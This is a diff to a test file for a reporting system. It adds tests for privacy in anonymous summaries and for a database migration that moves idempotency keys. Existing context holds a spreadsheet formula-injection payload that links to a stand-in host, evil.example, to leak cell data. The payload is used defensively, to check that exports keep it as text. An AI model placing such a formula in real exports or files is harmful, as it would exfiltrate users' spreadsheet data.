@@ -2,6 +2,9 @@
 // them and to one request (and are authorized again before a stored answer is given), the ledger
 // summary tells no single problem's details to an anonymous caller, and exports carry no formulas.
 
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { MIGRATIONS_DIR } from '@rrm/db';
 import { parse } from 'csv-parse/sync';
 import { sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
@@ -327,6 +330,24 @@ for (const backend of testBackends()) {
         expect(five.byCategory.reduce((n, c) => n + c.total, 0)).toBe(5);
       });
 
+      it("leaves a small county's problems out of its prefecture's anonymous details (no subtracting neighbours)", async () => {
+        const county = emptyCounties[2]!;
+        for (let i = 0; i < 2; i++)
+          await ok(
+            REPORT,
+            problemInput({ countyCode: county, department: '差分审计局', description: `差分 ${i}` }),
+            tokens.admin,
+          );
+        const prefecture = county.slice(0, 4);
+        const anonymous = (await ok<Summary>(SUMMARY, { r: prefecture })).supervisionSummary;
+        expect(anonymous.byDepartment.map((d) => d.key)).not.toContain('差分审计局');
+        const loggedIn = (await ok<Summary>(SUMMARY, { r: prefecture }, tokens.analyst)).supervisionSummary;
+        expect(loggedIn.byDepartment.find((d) => d.key === '差分审计局')?.total).toBe(2);
+        expect(anonymous.total.total).toBe(loggedIn.total.total);
+        // Logged in, the details add up to the total.
+        expect(loggedIn.byCategory.reduce((n, c) => n + c.total, 0)).toBe(loggedIn.total.total);
+      });
+
       it('exports a formula-like description as text, in CSV and in Excel', async () => {
         const county = emptyCounties[1]!;
         const description = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
@@ -356,6 +377,103 @@ for (const backend of testBackends()) {
         expect(cell.type).toBe(ExcelJS.ValueType.String);
         expect(cell.value).toBe(description);
         expect(cell.formula).toBeUndefined();
+      });
+
+      // Last: it rebuilds the key table from the old columns.
+      it('migration 0004 moves existing keys to the users who wrote them, and drops the rest', async () => {
+        const mine = async (description: string) =>
+          Number(
+            (
+              await ok<{ reportProblem: { id: string } }>(
+                REPORT,
+                problemInput({ description }),
+                tokens.supervisor,
+              )
+            ).reportProblem.id,
+          );
+        const kept = await mine('迁移前的问题');
+        const orphan = await mine('迁移前的孤儿问题');
+        const inspection = Number(
+          (
+            await ok<{ recordInspection: { id: string } }>(
+              RECORD,
+              {
+                input: {
+                  listingId: target.listingId,
+                  kind: 'REVIEW',
+                  inspectedOn: '2026-11-03',
+                  inspectors: '王五',
+                  householdsChecked: 5,
+                  villagesChecked: 1,
+                  findings: '迁移前的检查',
+                },
+              },
+              tokens.supervisor,
+            )
+          ).recordInspection.id,
+        );
+        // Back to the shape before 0004 (as 0002 left it), with keys in the old columns.
+        await database.rows(sql`DROP TABLE idempotency_keys`);
+        await database.rows(sql`ALTER TABLE supervision_inspections ADD COLUMN idempotency_key text`);
+        await database.rows(sql`ALTER TABLE supervision_problems ADD COLUMN idempotency_key text`);
+        await database.rows(
+          sql`ALTER TABLE supervision_inspections ADD CONSTRAINT "supervision_inspections_idempotencyKey_unique" UNIQUE (idempotency_key)`,
+        );
+        await database.rows(
+          sql`ALTER TABLE supervision_problems ADD CONSTRAINT "supervision_problems_idempotencyKey_unique" UNIQUE (idempotency_key)`,
+        );
+        await database.rows(
+          sql`UPDATE supervision_problems SET idempotency_key = 'legacy-problem' WHERE id = ${kept}`,
+        );
+        await database.rows(
+          sql`UPDATE supervision_problems SET idempotency_key = 'legacy-orphan' WHERE id = ${orphan}`,
+        );
+        await database.rows(
+          sql`UPDATE supervision_problem_history SET changed_by = 'someone-gone' WHERE problem_id = ${orphan}`,
+        );
+        await database.rows(
+          sql`UPDATE supervision_inspections SET idempotency_key = 'legacy-inspection' WHERE id = ${inspection}`,
+        );
+        const migration = readFileSync(join(MIGRATIONS_DIR, '0004_idempotency_keys.sql'), 'utf8');
+        for (const statement of migration.split('--> statement-breakpoint'))
+          if (statement.trim()) await database.rows(sql.raw(statement));
+
+        const keys = await database.rows(sql`
+          SELECT u.username, k.key, k.operation, k.request_hash AS "requestHash", k.result_id AS "resultId"
+          FROM idempotency_keys k JOIN users u ON u.id = k.user_id ORDER BY k.key`);
+        expect(keys).toEqual([
+          {
+            username: 'supervisor',
+            key: 'legacy-inspection',
+            operation: 'recordInspection',
+            requestHash: null,
+            resultId: inspection,
+          },
+          {
+            username: 'supervisor',
+            key: 'legacy-problem',
+            operation: 'reportProblem',
+            requestHash: null,
+            resultId: kept,
+          },
+        ]);
+        const [columns] = await database.rows<{ n: number }>(sql`
+          SELECT count(*)::int AS n FROM information_schema.columns
+          WHERE table_name IN ('supervision_problems', 'supervision_inspections') AND column_name = 'idempotency_key'`);
+        expect(columns!.n).toBe(0);
+        // A key moved over answers its user's retry as before (no hash was kept), and no one else's.
+        const retry = await ok<{ reportProblem: { id: string } }>(
+          REPORT,
+          problemInput({ idempotencyKey: 'legacy-problem', description: '迁移前的问题' }),
+          tokens.supervisor,
+        );
+        expect(Number(retry.reportProblem.id)).toBe(kept);
+        const twin = await ok<{ reportProblem: { id: string } }>(
+          REPORT,
+          problemInput({ idempotencyKey: 'legacy-problem', description: '迁移前的问题' }),
+          tokens['idem.twin'],
+        );
+        expect(Number(twin.reportProblem.id)).not.toBe(kept);
       });
     },
   );
